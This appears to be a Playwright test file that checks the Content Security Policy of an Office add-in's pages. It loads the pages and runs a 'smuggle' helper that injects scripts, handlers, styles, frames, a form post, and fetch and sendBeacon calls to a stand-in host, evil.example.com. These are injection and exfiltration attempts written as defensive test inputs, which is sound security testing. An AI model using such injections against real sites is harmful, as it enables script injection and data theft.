/**
 * The content policies as a browser keeps them: nothing that the add-in does is stopped by them, and what somebody
 * might smuggle into a page is. The page of the pane is the published one, with Office.js at its hosted address.
 */
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { dirname, join } from "node:path";
import type { Browser, Frame, Page } from "playwright-core";
import { chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { serve } from "../../src/workbench/server";
import type { Served } from "../../src/workbench/server";
import { shimText } from "../../src/workbench/office/shim-text";

const officeFolder = join(
  dirname(createRequire(import.meta.url).resolve("@microsoft/office-js/package.json")),
  "dist",
);
const HOSTED = "https://appsforoffice.microsoft.com/lib/1/hosted";

let served: Served;
let browser: Browser;
beforeAll(async () => {
  served = await serve({ port: 0 });
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"],
  });
});
afterAll(async () => {
  await browser.close();
  await served.close();
});

interface Watched {
  readonly page: Page;
  /** What a policy stopped, in whatever frame: the rule, and the address or kind of what it stopped. */
  readonly stopped: string[];
  /** Every address outside that was asked for and answered. */
  readonly outside: string[];
}

/** A page whose browser answers Office.js's hosted address with the pinned library, and any other with a script. */
async function watched(): Promise<Watched> {
  const page = await browser.newPage({ viewport: { width: 1000, height: 800 } });
  const stopped: string[] = [];
  const outside: string[] = [];
  await page.exposeFunction("stoppedByPolicy", (what: string) => stopped.push(what));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      const { stoppedByPolicy } = window as unknown as { stoppedByPolicy: (what: string) => void };
      stoppedByPolicy(`${effectiveDirective} ${blockedURI}`);
    });
  });
  await page.route(/^https:/, (route) => {
    const address = route.request().url();
    outside.push(address);
    if (!address.startsWith(HOSTED)) {
      const headers = { "Access-Control-Allow-Origin": "*" };
      return route.fulfill({ body: "window.smuggled = 1", contentType: "text/javascript", headers });
    }
    const name = new URL(address).pathname.slice("/lib/1/hosted/".length);
    const text = readFileSync(join(officeFolder, name), "utf8");
    const shim = name === "office.js" ? shimText() : "";
    return route.fulfill({ body: shim + text, contentType: "text/javascript" });
  });
  return { page, stopped, outside };
}

const text = (frame: Frame, selector: string, words: string) =>
  frame.locator(selector, { hasText: words }).first().waitFor();

/** Tries all that a policy is there to stop, and says what of it came through. */
const smuggle = (frame: Frame) =>
  frame.evaluate(async () => {
    const through = window as unknown as Record<string, unknown>;
    const put = (tag: string, given: Record<string, string>, content = "") => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(given)) element.setAttribute(name, value);
      element.textContent = content;
      document.body.append(element);
      return element;
    };
    const foreign = "https://evil.example.com";
    put("script", {}, "window.inlineScript = 1");
    put("script", { src: `${foreign}/x.js` });
    put("script", { src: "data:text/javascript,window.dataScript=1" });
    put("button", { onclick: "window.handler = 1" }).click();
    put("style", {}, "body { outline: 7px solid red }");
    put("link", { rel: "stylesheet", href: `${foreign}/x.css` });
    put("p", { style: "outline: 9px solid red" });
    put("img", { src: `${foreign}/x.png` });
    put("iframe", { src: `${foreign}/` });
    put("object", { data: `${foreign}/` });
    put("base", { href: `${foreign}/` });
    const form = put("form", { action: `${foreign}/`, method: "post", target: "_blank" });
    (form as HTMLFormElement).submit();
    navigator.sendBeacon(`${foreign}/beacon`, "1");
    setTimeout(() => {
      try {
        (Reflect.construct(Function, ["window.evaluated = 1"]) as () => void)();
      } catch {
        // As it should be.
      }
    });
    const fetched = await fetch(`${foreign}/data`).then(
      () => true,
      () => false,
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    const known = ["inlineScript", "smuggled", "dataScript", "handler", "evaluated"];
    const styled = [document.body, ...document.querySelectorAll("p")].some((one) =>
      /^[79]px$/.test(getComputedStyle(one).outlineWidth),
    );
    return [
      ...known.filter((name) => name in through),
      ...(fetched ? ["fetched"] : []),
      ...(styled ? ["styled"] : []),
    ];
  });

/** Written by a program that quotes as windows-1252 does. */
const lawn =
  '<?xml version="1.0" encoding="windows-1252"?><kml><Placemark><name>\x93Caf\xe9\x94 lawn</name><Polygon>' +
  "<outerBoundaryIs><LinearRing><coordinates>-76.1,40.1 -76.1001,40.1 -76.1001,40.1001</coordinates></LinearRing>" +
  "</outerBoundaryIs></Polygon></Placemark></kml>";

describe("the published pane beside a workbook", () => {
  it("does everything in every room without being stopped, and lets nothing in that is not ours or Office.js's", async () => {
    const { page, stopped, outside } = await watched();
    await page.goto(`${served.origin}/workbench/?empty&pane=320`);
    await page.waitForFunction(() => "workbench" in window);
    // The published page takes the place of the workbench's own, in the same frame.
    await page.locator("#pane").evaluate((frame) => ((frame as HTMLIFrameElement).src = "/pane.html"));
    await page.frameLocator("#pane").locator("#search").waitFor();
    const pane = page.frames().find((one) => one.url().endsWith("/pane.html"));
    if (pane === undefined) throw new Error("The published pane did not open.");
    const room = (name: string) => pane.locator(`#tab-${name}`).click();
    const said = (name: string, words: string) => text(pane, `#room-${name} .message`, words);

    await pane.locator("#search input").fill("topdress bags");
    await pane.locator("#open-TOPDRESS_BAGS").click();
    await room("this-cell");
    await room("bid");
    await pane.locator("#property input").fill("12 Long Meadow Lane");
    await pane.locator("#write-bid").click();
    await said("bid", "Written, in this order");
    await pane
      .locator("#outline-file")
      .setInputFiles({ name: "lawn.kml", mimeType: "", buffer: Buffer.from(lawn, "latin1") });
    await said("bid", "name the zone “Café” lawn");
    await room("your-sheets");
    await pane.locator("#room-your-sheets h2").waitFor();
    await room("checks");
    await pane.locator("#room-checks h2").waitFor();
    await room("drawings");
    await pane.locator("#room-drawings svg").first().waitFor();
    await pane.locator("#room-drawings [id^=put-]").first().click();
    await pane.locator("#room-drawings .message").first().waitFor();
    await room("hand-over");
    await text(pane, ".sheet", "with our functions");
    await pane.locator("#hand-over").click();
    await pane.locator("#room-hand-over .message").first().waitFor();
    await page.waitForTimeout(500);
    expect(stopped).toEqual([]);
    expect(outside.filter((address) => !address.startsWith(HOSTED))).toEqual([]);

    expect(await smuggle(pane)).toEqual([]);
    expect(outside.filter((address) => !address.startsWith(HOSTED))).toEqual([]);
    const rules = new Set(stopped.map((one) => one.split(" ")[0]));
    for (const rule of [
      "script-src-elem",
      "script-src-attr",
      "script-src",
      "style-src-elem",
      "style-src-attr",
      "img-src",
      "connect-src",
      "frame-src",
      "form-action",
      "base-uri",
    ])
      expect([...rules]).toContain(rule);
    await page.close();
  });
});

describe("the other pages", () => {
  it.each(["functions.html", "support.html", "privacy.html", "notices.html"])(
    "%s loads what it needs, and nothing that is smuggled in",
    async (name) => {
      const { page, stopped, outside } = await watched();
      await page.goto(`${served.origin}/${name}`);
      expect(stopped).toEqual([]);
      if (name === "functions.html")
        expect(await page.evaluate(() => "CustomFunctions" in window)).toBe(true);
      else expect(await page.evaluate(() => getComputedStyle(document.body).maxWidth)).toBe("672px");
      expect(await smuggle(page.mainFrame())).toEqual([]);
      expect(outside.filter((address) => !address.startsWith(HOSTED))).toEqual([]);
      expect(stopped.length).toBeGreaterThan(8);
      await page.close();
    },
  );

  it("the workbench, whose spreadsheet needs more, still takes no script within the page and none from elsewhere", async () => {
    const { page, stopped, outside } = await watched();
    await page.goto(`${served.origin}/workbench/?empty`);
    await page.waitForFunction(() => "workbench" in window);
    await page.frameLocator("#pane").locator("#search").waitFor();
    expect(stopped).toEqual([]);
    // Styles and functions made within the page are what its spreadsheet needs.
    const through = await smuggle(page.mainFrame());
    expect(through.filter((what) => what !== "styled" && what !== "evaluated")).toEqual([]);
    expect(outside).toEqual([]);
    await page.close();
  });
});
